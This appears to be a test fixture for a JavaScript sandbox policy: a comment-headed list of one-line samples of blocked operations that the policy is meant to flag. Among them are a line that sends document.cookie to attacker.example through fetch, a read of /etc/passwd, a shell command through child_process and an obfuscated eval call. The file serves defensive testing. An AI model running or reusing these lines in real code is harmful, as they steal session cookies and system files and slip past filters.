// An example of each of the eleven categories. It never runs: the policy blocks it and names every line.
// tier: strict

require("child_process").execSync("id");
eval("1 + 1");
require("fs").readFileSync("/etc/passwd");
fetch("https://attacker.example/?q=" + document.cookie);
Object.setPrototypeOf(Array, null);
module.exports = await import("./more.js");
process.env.HOME;
new SharedArrayBuffer(1024);
setInterval(() => {}, 0);
WebAssembly.compile(new Uint8Array());
globalThis["\x65val"]("2");
atob(atob("WVE9PQ=="));
